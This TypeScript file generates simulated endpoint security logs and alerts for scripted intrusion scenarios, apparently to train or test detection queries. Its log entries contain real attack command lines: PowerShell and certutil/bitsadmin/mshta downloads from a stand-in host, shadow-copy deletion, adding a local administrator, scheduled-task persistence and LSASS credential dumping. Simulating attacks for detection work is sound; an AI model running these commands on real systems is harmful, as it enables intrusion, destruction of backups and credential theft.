/** Stories of programs: macros, proxies, persistence, theft, ransom. */
import type { Scene, Story } from "./scene.ts";

const secondMs = 1_000;
const minuteMs = 60_000;

/** An alert of the endpoint and its evidence: the device, the user, the file. */
function alert(scene: Scene, ms: number, title: string, facts: string, fileName: string): void {
  const bits = scene.random.bits();
  const line = { subject: title, commandLine: facts, file: scene.file(fileName), bits };
  scene.tell("AlertInfo", ms, { ...line, action: "Alert" });
  for (const entity of ["Machine", "User", "File"])
    scene.tell("AlertEvidence", ms, { ...line, action: entity });
}

const macro: Story = {
  name: "a macro starts PowerShell, which fetches a program",
  hours: 6,
  lengthMs: 10 * minuteMs,
  tables: [
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceFileEvents",
    "AlertInfo",
    "AlertEvidence",
  ],
  tell: (scene) => {
    const { file, tell } = scene;
    const [word, shell, payload] = [
      file("winword.exe"),
      file("powershell.exe"),
      file("payload.exe"),
    ];
    const command =
      "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
    const download = `powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://cdn.paste.example/a.png','C:\\Users\\Public\\payload.exe')"`;
    const opened = String.raw`"WINWORD.EXE" /n "C:\Users\Public\Documents\invoice.docm"`;
    tell("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: shell,
      commandLine: command,
      by: word,
      byCommandLine: opened,
    });
    tell("DeviceProcessEvents", 2 * secondMs, {
      action: "ProcessCreated",
      file: shell,
      commandLine: download,
      by: shell,
      byCommandLine: command,
      byParent: word,
    });
    tell("DeviceNetworkEvents", 3 * secondMs, {
      action: "ConnectionSuccess",
      by: shell,
      byCommandLine: download,
      byParent: word,
      subject: "http://cdn.paste.example/a.png",
      remoteIp: "192.0.2.66",
      remotePort: 80,
    });
    tell("DeviceFileEvents", 5 * secondMs, {
      action: "FileCreated",
      file: payload,
      by: shell,
      byCommandLine: download,
      byParent: word,
      subject: "http://cdn.paste.example/a.png",
    });
    tell("DeviceProcessEvents", 9 * secondMs, {
      action: "ProcessCreated",
      file: payload,
      commandLine: String.raw`C:\Users\Public\payload.exe`,
      by: shell,
      byCommandLine: download,
      byParent: word,
    });
    alert(
      scene,
      4 * minuteMs,
      "Suspicious PowerShell command line",
      'Execution|Medium|["T1059.001"]',
      "payload.exe",
    );
  },
};

const proxies = [
  ["regsvr32.exe", "regsvr32.exe /s /n /u /i:http://cdn.paste.example/x.sct scrobj.dll"],
  ["mshta.exe", "mshta.exe http://cdn.paste.example/y.hta"],
  [
    "rundll32.exe",
    String.raw`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication";document.write()`,
  ],
  [
    "certutil.exe",
    String.raw`certutil.exe -urlcache -split -f http://cdn.paste.example/z.txt C:\Users\Public\loader.dll`,
  ],
  [
    "bitsadmin.exe",
    String.raw`bitsadmin.exe /transfer job http://cdn.paste.example/w.exe C:\Users\Public\updater_x.exe`,
  ],
] as const;

const proxy: Story = {
  name: "a signed program runs what it should not",
  hours: 8,
  lengthMs: minuteMs,
  tables: ["DeviceProcessEvents", "DeviceNetworkEvents", "DeviceImageLoadEvents"],
  tell: ({ random, file, tell }) => {
    const [name, commandLine] = random.pick(proxies);
    const cmd = file("cmd.exe");
    tell("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: file(name),
      commandLine,
      by: cmd,
      byCommandLine: "cmd.exe /c start",
    });
    tell("DeviceNetworkEvents", secondMs, {
      action: "ConnectionSuccess",
      by: file(name),
      byCommandLine: commandLine,
      byParent: cmd,
      subject: "http://cdn.paste.example/",
      remoteIp: "192.0.2.66",
      remotePort: 80,
    });
    tell("DeviceImageLoadEvents", 2 * secondMs, {
      action: "ImageLoaded",
      file: file("loader.dll"),
      by: file(name),
      byCommandLine: commandLine,
      byParent: cmd,
    });
  },
};

const administrator: Story = {
  name: "somebody becomes a local administrator",
  hours: 12,
  lengthMs: minuteMs,
  tables: ["DeviceProcessEvents", "DeviceEvents"],
  tell: ({ cast, random, file, tell }) => {
    const added = random.pick(cast.users);
    const command = `net.exe localgroup administrators ${added.domain}\\${added.name} /add`;
    tell("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: file("net.exe"),
      commandLine: command,
      by: file("cmd.exe"),
    });
    tell("DeviceEvents", secondMs, {
      action: "UserAccountAddedToLocalGroup",
      by: file("net.exe"),
      byCommandLine: command,
      byParent: file("cmd.exe"),
      set: {
        FileName: "",
        FolderPath: "",
        SHA1: "",
        SHA256: "",
        MD5: "",
        FileSize: null,
        AccountName: added.name,
        AccountDomain: added.domain,
        AccountSid: added.sid,
        AdditionalFields: JSON.stringify({
          GroupName: "Administrators",
          GroupDomainName: "Builtin",
          GroupSid: "S-1-5-32-544",
        }),
      },
    });
  },
};

const ransom: Story = {
  name: "files are renamed by the hundred and shadow copies deleted",
  hours: 3,
  lengthMs: 10 * minuteMs,
  tables: ["DeviceProcessEvents", "DeviceFileEvents", "AlertInfo", "AlertEvidence"],
  tell: (scene) => {
    const { cast, device, random, file, tell } = scene;
    const by = file("svch0st.exe");
    const bits = random.bits();
    tell("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: file("vssadmin.exe"),
      commandLine: "vssadmin.exe delete shadows /all /quiet",
      by,
    });
    for (let index = 0; index < 120; index += 1) {
      const document = random.pick(cast.documents);
      // One process does it all, within one slot of five minutes and the next.
      tell("DeviceFileEvents", secondMs + index * 200, {
        action: "FileRenamed",
        file: document,
        by,
        byCommandLine: String.raw`C:\Users\Public\svch0st.exe --go`,
        bits,
        set: {
          ReportId: BigInt(bits % 1_000_000) + BigInt(index),
          FileName: `${index}-${document.name}.locked`,
          FolderPath: `C:\\Shares\\${device.group}\\${index}-${document.name}.locked`,
          PreviousFileName: `${index}-${document.name}`,
        },
      });
    }
    alert(scene, minuteMs, "File backups were deleted", 'Impact|Medium|["T1490"]', "vssadmin.exe");
    alert(
      scene,
      5 * minuteMs,
      "Ransomware behavior in the file system",
      'Impact|High|["T1486"]',
      "svch0st.exe",
    );
  },
};

const persistence: Story = {
  name: "a task and a Run key keep a program alive",
  hours: 12,
  lengthMs: minuteMs,
  tables: ["DeviceProcessEvents", "DeviceRegistryEvents", "DeviceEvents"],
  tell: ({ file, tell }) => {
    const path = String.raw`C:\Users\Public\updater_x.exe`;
    tell("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: file("schtasks.exe"),
      commandLine: `schtasks.exe /create /sc minute /mo 5 /tn Updater /tr ${path} /f`,
      by: file("cmd.exe"),
    });
    tell("DeviceEvents", 400, {
      action: "ScheduledTaskCreated",
      by: file("schtasks.exe"),
      set: { AdditionalFields: JSON.stringify({ TaskName: "\\Updater", TaskContent: path }) },
    });
    tell("DeviceRegistryEvents", secondMs, {
      action: "RegistryValueSet",
      by: file("updater_x.exe"),
      subject: String.raw`HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`,
      commandLine: path,
      set: { RegistryValueName: "Updater" },
    });
  },
};

const theft: Story = {
  name: "passwords are read out of memory",
  hours: 24,
  lengthMs: 5 * minuteMs,
  tables: ["DeviceProcessEvents", "DeviceEvents", "DeviceFileEvents", "AlertInfo", "AlertEvidence"],
  tell: (scene) => {
    const { file, tell } = scene;
    const tool = file("mimidump.exe");
    const command = String.raw`mimidump.exe privilege::debug sekurlsa::logonpasswords exit`;
    tell("DeviceProcessEvents", 0, {
      action: "ProcessCreated",
      file: tool,
      commandLine: command,
      by: file("cmd.exe"),
    });
    tell("DeviceEvents", secondMs, {
      action: "OpenProcessApiCall",
      file: file("lsass.exe"),
      by: tool,
      byCommandLine: command,
    });
    tell("DeviceProcessEvents", 3 * secondMs, {
      action: "ProcessCreated",
      file: file("rundll32.exe"),
      commandLine: String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\lsass.dmp full`,
      by: file("cmd.exe"),
    });
    tell("DeviceFileEvents", 4 * secondMs, {
      action: "FileCreated",
      file: tool,
      by: file("rundll32.exe"),
      set: { FileName: "lsass.dmp", FolderPath: String.raw`C:\Windows\Temp\lsass.dmp` },
    });
    alert(
      scene,
      2 * minuteMs,
      "Malicious credential theft tool execution detected",
      'CredentialAccess|High|["T1003.001"]',
      "mimidump.exe",
    );
  },
};

/** Stories on devices. */
export const intrusions: readonly Story[] = [
  macro,
  proxy,
  administrator,
  ransom,
  persistence,
  theft,
];
